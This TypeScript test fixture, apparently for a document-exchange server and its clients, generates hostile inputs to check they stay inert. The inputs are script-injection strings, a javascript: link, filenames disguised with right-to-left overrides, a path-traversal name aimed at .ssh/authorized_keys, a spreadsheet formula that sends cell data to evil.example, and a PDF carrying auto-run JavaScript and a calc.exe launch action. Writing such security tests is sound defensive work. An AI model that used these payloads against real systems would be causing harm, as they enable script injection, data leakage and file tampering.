// What strangers write who mean harm: in every field that a sender, a recipient or an administrator elsewhere controls.
// Each would set `canary`, leave the host, or break the page, if somebody took it for more than a text.
import { mkdirSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { assembled } from "./papers"

export const WRITTEN = {
  script: "<script>globalThis.canary=1</script>",
  image: `"><img src=x onerror="globalThis.canary=2">`,
  address: "javascript:globalThis.canary=3",
  turned: "Kế hoạch \u202Etxt.exe\u2066 mật",
  braces: "{name} {count, plural, other {#}} '{' ${canary} {{canary}}",
  long: `Ủ${"x".repeat(199)}`,
  unseen: "05\u200B/UB\u2060ND-\uFEFFVX\u200D",
  formula: `=HYPERLINK("http://evil.example/?"&A1,"mở")`,
} as const

/** All of it in one, for what is asked in an address. */
export const ALL = Object.values(WRITTEN).join(" ")

/** Names of files that would be something else on a disk. */
export const FILES = [`"><img src=x onerror=globalThis.canary=4>.pdf`, "../../../.ssh/authorized_keys.pdf", "báo cáo\u202Efdp.exe", "=cmd.csv", `${"dài".repeat(66)}.pdf`]

/** A PDF of one page that wants to run a script, start a program and open addresses, and says so in its properties. */
export function armed(): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); globalThis.canary = 5) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (globalThis.canary = 6) >>] >> >> >>",
    "<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R /Annots [6 0 R 7 0 R 8 0 R] /AA << /O << /S /JavaScript /JS (globalThis.canary = 7) >> >> >>",
    "<< /Length 67 >>\nstream\nBT /F1 20 Tf 72 740 Td (<script>globalThis.canary=8</script>) Tj ET\nendstream",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:globalThis.canary=9) >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) >> >>",
    `<< /Title (${WRITTEN.script}) /Author ("><img src=x onerror=globalThis.canary=10>) >>`,
  ]
  return assembled(objects, " /Info 9 0 R")
}

/** A PDF of `bytes` of which nearly all is a stream that no page shows; its table of contents is at the end. */
export function heavy(bytes: number): { head: Buffer; tail: Buffer; size: number } {
  const font = "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>"
  const text = "BT /F1 20 Tf 72 740 Td (Trang dau) Tj ET"
  const first = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
    font,
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
  ]
  let head = "%PDF-1.7\n"
  const places = first.map((object, i) => {
    const at = head.length
    head += `${i + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  places.push(head.length)
  head += `6 0 obj\n<< /Length ${bytes} >>\nstream\n`
  const end = "\nendstream\nendobj\n"
  const at = head.length + bytes + end.length
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("")
  const tail = `${end}xref\n0 7\n0000000000 65535 f \n${table}trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`
  return { head: Buffer.from(head, "latin1"), tail: Buffer.from(tail, "latin1"), size: head.length + bytes + tail.length }
}

export interface Strange {
  /** Documents to the clerk: by what their subject is, and one whose files have the names of FILES. */
  subjects: Record<keyof typeof WRITTEN, string>
  files: string
  /** From the clerk to an organisation whose name is a formula, which has refused it with a script for a reason. */
  refused: string
  /** A link code for somebody whose name is a script. */
  person: string
}

/** Makes organisations, a system, a person and documents that strangers would. `truc` runs its words in `directory`. */
export function visit(directory: string, url: string, truc: (...words: string[]) => Record<string, unknown>): Strange {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
  const rows = [`H66,${quoted(WRITTEN.image)},`, `H67,${quoted(WRITTEN.formula)},`, `H68,${quoted(WRITTEN.long)},`]
  writeFileSync(join(directory, "strange.csv"), `code,name,parent\n${rows.join("\n")}\n`)
  truc("organisation", "import", "-C", "site", "strange.csv")
  writeFileSync(join(directory, "strange.key"), "secret of a stranger")
  truc("system", "add", "-C", "site", "00.66.W00", "--secret-file", "strange.key", ...["H66", "H67", "H68"].flatMap((code) => ["--organisation", code]))
  const stranger = ["--url", url, "--system", "00.66.W00", "--secret-file", "strange.key"]
  // The server takes a moment to hear of a system that was added beside it.
  for (let tries = 0, known = false; !known && tries < 20; tries++) {
    try {
      truc("inbox", ...stranger)
      known = true
    } catch {
      Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 300)
    }
  }
  const clerk = ["--url", url, "--system", "00.22.W00", "--secret-file", "00.22.W00.key"]
  const name = (code: string) => ({ id: code, name: WRITTEN.image })
  const send = (as: string[], from: string, to: string, number: string, notation: string, subject: string, names: readonly string[]) => {
    const folder = join(directory, `strange-${number}`)
    mkdirSync(folder)
    writeFileSync(join(folder, "tep.pdf"), armed())
    const header = {
      kind: "document",
      from: name(from),
      to: [name(to)],
      document_id: `${from},2026/11/20,${number}/${notation}`,
      code_number: number,
      code_notation: notation,
      promulgation_date: "2026/11/20",
      type: "2",
      type_name: WRITTEN.image,
      subject,
      priority: "0",
      attachments: names.map((one) => ({ name: one, file: "tep.pdf", description: WRITTEN.image })),
    }
    writeFileSync(join(folder, "document.json"), JSON.stringify(header))
    truc("edxml", "pack", folder, "-o", `${folder}.edxml`)
    return String(truc("send", ...as, `${folder}.edxml`).DocId)
  }
  const subjects = Object.fromEntries(
    Object.entries(WRITTEN).map(([kind, text], place) => [kind, send(stranger, "H66", "H49", String(660 + place), `X${place}-<b>x</b>`, text, [FILES[0] ?? ""])]),
  ) as Strange["subjects"]
  const files = send(stranger, "H66", "H49", "680", WRITTEN.long.slice(0, 100), WRITTEN.image, FILES)
  const refused = send(clerk, "H49", "H67", "681", "=1+1", "Về việc thử", ["thu.pdf"])
  const waiting = truc("inbox", ...stranger) as unknown as { docId: string; to: string }[]
  const one = waiting.find(({ to }) => to === "H67")
  if (!one) throw new Error("the document to H67 did not arrive")
  truc("fetch", ...stranger, one.docId, "-o", "strange.edxml")
  truc("acknowledge", ...stranger, one.docId, "done")
  truc("status", ...stranger, one.docId, "02", "--from", "H67", "--reason", WRITTEN.image)
  const names = ["--family-name", WRITTEN.image, "--given-name", WRITTEN.script, "--post", WRITTEN.braces, "--role", "unit_admin", "--organisation", "H68"]
  truc("person", "add", "-C", "site", "nguoi.la", ...names)
  return { subjects, files, refused, person: String(truc("person", "invite", "-C", "site", "nguoi.la").code) }
}
